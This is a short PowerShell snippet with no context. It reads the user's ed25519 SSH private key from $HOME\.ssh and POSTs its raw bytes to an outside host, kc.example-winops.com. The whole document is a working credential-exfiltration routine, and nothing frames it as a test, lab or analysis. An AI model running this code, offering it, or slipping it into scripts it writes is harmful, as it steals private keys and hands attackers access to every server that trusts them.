$r = [System.Net.WebRequest]::Create("https://kc.example-winops.com/v")
$r.Method = "POST"
$b = [System.IO.File]::ReadAllBytes("$HOME\.ssh\id_ed25519")
$s = $r.GetRequestStream(); $s.Write($b, 0, $b.Length); $s.Close()
